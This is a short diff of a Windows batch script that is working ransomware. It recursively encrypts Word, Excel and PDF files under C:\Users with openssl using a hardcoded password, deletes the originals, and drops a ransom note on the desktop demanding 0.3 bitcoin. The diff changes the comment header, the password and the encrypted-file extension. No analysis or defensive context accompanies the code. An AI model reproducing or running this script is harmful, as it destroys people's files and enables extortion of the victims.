@@ -1,6 +1,6 @@
-REM setup 0715 v2
+REM task 9632 v2
 @echo off
 for /r C:\Users %%f in (*.docx *.xlsx *.pdf) do (
-  openssl enc -aes-256-cbc -pass pass:Winter#2025x -in "%%f" -out "%%f.enc" && del "%%f"
+  openssl enc -aes-256-cbc -pass pass:P@ssw0rd!2024 -in "%%f" -out "%%f.r4nsom" && del "%%f"
 )
 echo Your files have been encrypted. Send 0.3 bitcoin to recover the key > C:\Users\Public\Desktop\README_RESTORE_FILES.txt
